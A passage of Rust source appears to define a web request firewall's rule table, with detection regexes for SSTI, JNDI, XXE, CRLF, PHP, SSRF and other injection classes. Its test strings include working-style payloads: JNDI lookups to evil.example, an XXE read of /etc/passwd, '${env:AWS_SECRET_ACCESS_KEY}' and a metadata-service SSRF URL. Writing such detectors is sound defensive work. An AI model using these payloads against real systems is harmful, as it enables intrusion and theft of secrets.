        r"\)\s*[&|!]?\s*\(\s*[a-z][a-z0-9-]*\s*[~<>]?=|\b[a-z][a-z0-9-]*:(?:dn:)?[0-9]+(?:\.[0-9]+)+:=|\*\s*\)\s*\)|^(?:\*[|&]+|[|&]+\*)[()*|&]*$",
        catches ["x)(cn=admin"],
        passes ["(x) (y)"]),
    rule!("xpath-injection", Ldapi, 1, High, 4, S, Any,
        r"\b(?:name|count|string-length|substring|contains|starts-with|text|position|last)\s*\(\s*[^)]{0,40}\)\s*(?:=|<|>|!=)|\bor\s+name\s*\(\s*\)|/(?:child|descendant|ancestor|parent|self)::",
        catches ["' or name()='admin"],
        passes ["or name your price"]),
    // ------------------------------------------------------------------ ssti
    rule!("ssti-double-curly", Ssti, 1, High, 5, D, Any,
        r"\{\{[^{}]*?(?:\d\s*[*+/-]\s*\d|__\w+__|\.\s*__|\(|\[|\||\bconfig\b|\bself\b|\brequest\b|\blipsum\b|\bcycler\b|\bjoiner\b|\bnamespace\b|\brange\b|getclass|forname|_self|\bsettings\b|\bapp\.|constructor)[^{}]*?\}\}",
        catches ["{{7*7}}"],
        passes ["{{name}}"]),
    rule!("ssti-dollar-curly", Ssti, 1, High, 5, D, Any,
        r"\$\{\{|\$\{[^{}]*?(?:\d\s*[*+/-]\s*\d|\(|getclass|class\.|runtime|\.exec|forname|\bt\s*\(|\bnew\s|#|@|\[|\bself\.|\bmodule\.|\bapplicationscope|\bpagecontext|\bheader\.|\bparam\.|\bsession\.|\brequest\.)[^{}]*\}",
        catches ["${7*7}"],
        passes ["${name}"]),
    rule!("ssti-hash-star-curly", Ssti, 1, High, 5, D, Any,
        r"[#*]\{[^{}]*?(?:\d\s*[*+/-]\s*\d|\(|\.|@|\[)[^{}]*\}",
        catches ["#{7*7}"],
        passes ["#{name}"]),
    rule!("ssti-erb-jinja-blocks", Ssti, 1, High, 5, D, Any,
        r"<%=?[^%]*?(?:\(|\.|\[|`|\*|\+|system|exec|eval)[^%]*%>|\{%[^%]*?(?:import|include|set\s|for\s|if\s|exec|system|popen|__|debug|load|macro|raw|with\s)[^%]*%\}|<#(?:assign|import|include|list|if)\b|\{php\}|\{\{\s*_self|\{\{\s*\d+\s*[*+]\s*['\x22]?\d",
        catches ["<%= 7*7 %>"],
        passes ["100% sure"]),
    rule!("ssti-dunder", Ssti, 1, High, 5, D, NotText,
        r"__(?:class|mro|subclasses|globals|builtins|import|init|base|bases|dict|getattribute|reduce|code|func_globals)__",
        catches ["__class__"],
        passes ["snake_case_name"]),
    rule!("ssti-engines", Ssti, 1, High, 5, D, Any,
        r"#set\s*\(|#foreach\s*\(|#if\s*\(|\$class\.inspect|freemarker\.template\.utility|\?new\s*\(\s*\)|\bobjectconstructor\b|\.getclass\s*\(\s*\)\s*\.|@\(\s*\d+\s*[*+]\s*\d+\s*\)|\{\{\s*constructor",
        catches ["#set($x=1)"],
        passes ["set x to 1"]),
    // ------------------------------------------------------------------ jndi
    rule!("jndi-lookup", Jndi, 1, High, 5, D, Any,
        r"\$\{\s*jndi\s*:|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:",
        catches ["${jndi:ldap://evil.example/a}"],
        passes ["jndi lookup docs"]),
    // -------------------------------------------------------------- xxe
    rule!("xxe-external-entity", Xxe, 1, High, 5, D, Any,
        r"<!entity\s+(?:%\s*)?[\w.:-]+\s+(?:system|public)\b|<!entity\s+%|<!doctype[^>]*?\b(?:system|public)\s+['\x22][a-z]+:|<xi:include\b|<(?:xs|xsd):(?:include|import|redefine)\b[^>]*(?:schemalocation|namespace)\s*=|<!doctype\s+[\w:.-]+\s*\[[^\]]{0,2000}<!entity",
        catches ["<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "<xs:include namespace=\"http://evil.example/\"/>"],
        passes ["entity system design"]),
    // Without SYSTEM: entities that expand other entities (billion laughs)
    // and any internal subset, which no API body needs (SOAP forbids
    // DTDs) and every entity attack opens.
    rule!("xxe-entity-expansion", Xxe, 1, High, 5, D, Any,
        r"<!entity\s+[\w.:-]+\s+['\x22][^'\x22]{0,1000}&[a-z_][\w.:-]*;",
        catches ["<!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">"],
        passes ["the entity lol2 expands to lol ten times"]),
    rule!("xxe-internal-subset", Xxe, 1, High, 5, D, Any,
        r"<!doctype\s+[\w:.-]+(?:\s+(?:system|public)\s+[^\[>]{0,400})?\s*\[",
        catches ["<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ELEMENT lolz (#PCDATA)>]><lolz>x</lolz>"],
        passes ["<!DOCTYPE html> is the first line [1]"]),
    // ------------------------------------------------------------ crlf
    rule!("crlf-header-injection", Crlf, 1, High, 5, D, NotText,
        r"[\r\n]+[^\S\r\n]*\S{0,4}?(?:set-cookie|location|content-(?:type|length|disposition|security-policy)|refresh|x-[a-z-]+|access-control-[a-z-]+|host|remote-addr|cache-control|transfer-encoding|cookie|link|bcc|cc|to|from|subject)\s*:|[\r\n]+\s*http/\d|[\r\n]{2,}\s*<",
        catches ["x\r\nSet-Cookie: a=b"],
        passes ["line one, line two"]),
    rule!("crlf-structural", Crlf, 1, High, 5, D, Structural, r"[\r\n]",
        catches ["a\nb"],
        passes ["a b"]),
    rule!("crlf-parameter-or-request-injection", Crlf, 1, High, 5, D, NotText,
        r"[\r\n]+[a-z0-9_.\[\]-]{1,40}=|\b(?:get|post|put|head|delete|options|connect|trace|patch) +(?:https?://|/)\S* +http/\d",
        catches ["x\nadmin=1"],
        passes ["admin=1"]),
    rule!("crlf-any", Crlf, 2, Medium, 3, D, Only(SourceKind::Header),
        r"[\r\n]",
        catches ["value\r\n"],
        passes ["value"]),
    // ---------------------------------------------------------- php / code
    rule!("php-open-tag", Php, 1, High, 5, D, Any,
        r"<\?(?:php\b|=)",
        catches ["<?php system('id'); ?>"],
        passes ["what? php is fine"]),
    rule!("php-functions", Php, 1, High, 5, D, Any,
        r"(?:^|[^.:\w$>])(?:eval|assert|system|shell_exec|passthru|popen|proc_open|pcntl_exec|create_function|call_user_func(?:_array)?|preg_replace|base64_decode|gzinflate|gzuncompress|str_rot13|file_get_contents|file_put_contents|fwrite|readfile|include_once|require_once|phpinfo|unserialize|highlight_file|show_source|parse_ini_file|symlink|exec|fopen|include|require)\s*\(\s*(?:\$|['\x22]|\(|\w+\s*\()",
        catches ["system('id')"],
        passes ["system (design)"]),
    rule!("php-info", Php, 1, High, 4, D, Any, r"\bphp(?:info|version)\s*\(\s*\)|!!python/(?:object|name|module)",
        catches ["phpinfo()"],
        passes ["php info page"]),
    rule!("php-superglobals-wrappers", Php, 1, High, 5, D, Any,
        r"\$_(?:get|post|request|cookie|server|files|env|session)\b|\bphp://(?:input|filter|memory|fd|stdin|temp)|\b(?:phar|zip|expect|glob|zlib|compress\.zlib|ogg|rar|ssh2\.\w+)://|\b[oc]:\d+:\x22[a-z_\\]+\x22:\d+:\{|\ba:\d+:\{[sioadb]:\d+",
        catches ["php://filter/resource=index.php"],
        passes ["php filter"]),
    rule!("java-code", Java, 1, High, 5, D, Any,
        r"java\.lang\.(?:runtime|processbuilder|system|class|thread|reflect|object)|getruntime\s*\(|\bprocessbuilder\b|\bclass\.forname|\bforname\s*\(|javax\.script|org\.apache\.commons\.collections|bsh\.interpreter|\bro0ab|\baced0005|%\{\s*[#@(']|#_memberaccess|@ognl|ognlcontext|xwork\.methodaccessor|java\.io\.(?:file|inputstream|bufferedreader)|javax\.naming|invokertransformer|\.getmethod\s*\(|\.invoke\s*\(|java\.beans\.|com\.sun\.|#context\[|@java\.lang|\bt\s*\(\s*java\.|\.class\.module|classloader|\bjava\.(?:util|net|nio)\.\w+",
        catches ["java.lang.Runtime"],
        passes ["java language runtime"]),
    rule!("nodejs-code", Nodejs, 1, High, 5, D, Any,
        r#"require\s*\(\s*['"`](?:child_process|fs|net|http|vm|os|process)['"`]|\bchild_process\b|\bprocess\.(?:mainmodule|binding|env|exit|kill|dlopen)|global\.process|_\$\$nd_func\$\$_|\bexecsync\s*\(|\bspawnsync\s*\(|\.constructor\s*\(\s*['"`]return|\bthis\.constructor\.constructor|\bfunction\s*\(\s*\)\s*\{\s*return\s+process"#,
        catches ["require('child_process')"],
        passes ["child process"]),
    rule!("proto-pollution", ProtoPollution, 1, High, 5, D, Any,
        r"__proto__|\bconstructor\s*(?:\.|\[\s*['\x22]?)\s*prototype\b|\[\s*constructor\s*\]\s*\[\s*prototype\s*\]",
        catches ["__proto__"],
        passes ["proto buffer"]),
    rule!("perl-ruby-code", Code, 2, High, 4, D, Any,
        r"\bqx\s*[({/\[]|%x\s*[({/\[]|\bsyscall\s*\(|\bkernel\.(?:exec|system|spawn|open)|\bio\.popen\b|\bopen3\b|\$env\{|\bsystem\s*\(\s*['\x22]|`\s*[a-z]+\s[^`]*`\.to_s",
        catches ["qx(id)"],
        passes ["qx key"]),
    rule!("ssi", Ssi, 1, High, 5, D, Any,
        r"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod|if|elif|else|endif)\b|<esi:(?:include|inline|vars|choose|when|remove|try|eval)\b",
        catches ["<!--#exec cmd=\"id\"-->"],
        passes ["#exec summary"]),
    rule!("rfi-url-ending-query", Rfi, 1, High, 4, D, NotText,
        r"^(?:https?|ftps?)://[^\s]+?\?+$|^(?:https?|ftps?)://(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?/[^\s]*\.(?:txt|php|inc|sh|pl|py)\??$",
        catches ["http://evil.example/shell.txt?", "http://203.0.113.7/shell.jpg?"],
        passes ["http://example.com/page?x=1", "http://203.0.113.7/images/photo.jpg"]),
    rule!("scanner-user-agent", Scanner, 1, High, 3, D, Only(SourceKind::Header),
        r"\b(?:sqlmap|nikto|nessus|acunetix|w3af|nmap|masscan|dirbuster|gobuster|wfuzz|havij|netsparker|openvas|arachni|whatweb|nuclei|zgrab|jaeles|commix|xsser|fimap|grabber|skipfish|paros|webinspect|appscan|burpcollaborator|zmeu|morfeus|sf/\d|brutus|hydra|medusa|jbrofuzz|nessus)\b",
        catches ["sqlmap/1.7"],
        passes ["Mozilla/5.0"]),
    rule!("file-upload-extension", FileUpload, 1, High, 4, D, Only(SourceKind::MultipartFilename),
        r"\.(?:php\d?|phtml|phar|pht|phps|jsp|jspx|jsw|jsv|jspf|asp|aspx|asa|asax|ascx|ashx|asmx|cer|cgi|pl|py|rb|sh|exe|dll|bat|cmd|com|vbs|ps1|war|jar|htaccess|shtml|svg|swf)(?:\.|$|;|%00|\s)|^\.ht",
        catches ["shell.php"],
        passes ["photo.jpg"]),
    rule!("restricted-file", RestrictedFile, 1, High, 3, P, Only(SourceKind::Path),
        r"(?:^|/)\.(?:git|svn|hg|bzr|env|htaccess|htpasswd|ds_store|aws|ssh|docker|kube|npmrc|bash_history|idea|vscode)(?:/|$|\.)|(?:^|/)(?:web\.config|wp-config\.php|phpinfo\.php|server-status|\.env\.[a-z]+|id_rsa|composer\.lock)$|\.(?:bak|old|orig|swp|sql|save|backup|config)~?$",
        catches ["/.git/config"],
        passes ["/gitlab/config"]),
    rule!("session-fixation", SessionFixation, 2, High, 3, D, NotText,
        r"\b(?:jsessionid|phpsessid|aspsessionid\w*|sessionid|sid)\s*=\s*[a-z0-9]{8,}|\.cookie\s*=|\bset-cookie\s*:",
        catches ["/login;jsessionid=abcdef123456"],
        passes ["session id"]),
    // ------------------------------------------------- checks written as code
    code_rule!("jndi-nested-lookup", Jndi, 1, High, 5, Any, Check::NestedLookup,
        catches ["${${lower:j}ndi:ldap://evil.example/a}"],
        passes ["${user.name}"]),
    // Interpolation lookups (Log4j, Apache Commons Text's
    // StringSubstitutor, CVE-2022-42889): `${prefix:key}` evaluates
    // `prefix` (`script`, `url`, `dns`, `env`…, and whatever a library adds),
    // so the grammar is judged, not a list: a lookup name, a colon, and a key
    // that is not a shell operator (`${VAR:-default}`), a number
    // (`${port:8080}`, `${s:1:2}`) or a space.
    rule!("java-interpolation-lookup", Java, 1, High, 5, D, NotText,
        r"\$\{\s*[a-z][\w.]{0,30}\s*:[^-=+?\d\s}][^{}]{0,500}\}",
        catches ["${url:UTF-8::https://evil.example/}", "${dns:address|evil.example}", "${env:AWS_SECRET_ACCESS_KEY}"],
        passes ["${HOME:-/root}", "${server.port:8080}"]),
    code_rule!("sqli-quote-breakout", Sqli, 1, High, 5, NotText, Check::QuoteBreakout,
        catches ["'/1/1='", "'is\\n-!'", "+aa1' * @a or '1 '/1 regexp '0"],
        passes ["O'Reilly"]),
    code_rule!("ssrf-internal-host", Ssrf, 1, High, 5, Any, Check::InternalHost,
        catches ["http://169.254.169.254/latest/meta-data/", "localhost:8080/admin"],
        passes ["https://example.com/"]),
    code_rule!("ssrf-dangerous-scheme", Ssrf, 1, High, 5, Any, Check::DangerousScheme,
        catches ["gopher://example.com/_x"],
        passes ["https://example.com/x"]),
    code_rule!("xss-encoded-markup", Xss, 1, High, 4, NotText, Check::EncodedMarkup,
        catches ["&lt;b&gt;"],
        passes ["fish &amp; chips"]),
    code_rule!("xss-hidden-scheme", Xss, 1, High, 4, NotText, Check::HiddenScheme,
        catches ["ja&#x09;vascript:x"],
        passes ["tab&#x09;separated: yes"]),
    // Free text decodes `\0` in documentation to a NUL byte: not there.
    code_rule!("traversal-encoding-evasion", Traversal, 1, High, 4, NotText, Check::EncodingEvasion,
        catches ["report.pdf%00.jpg"],
        passes ["report.pdf"]),
    code_rule!("crlf-unicode-low-byte", Crlf, 1, High, 5, NotText, Check::UnicodeCrlf,
        catches ["x%E5%98%8A%E5%98%8DSet-Cookie:%20a=b", "\u{560a}Location: https://evil.example/"],
        passes ["\u{560a}\u{560d} are two characters", "x\u{010a}y"]),
];
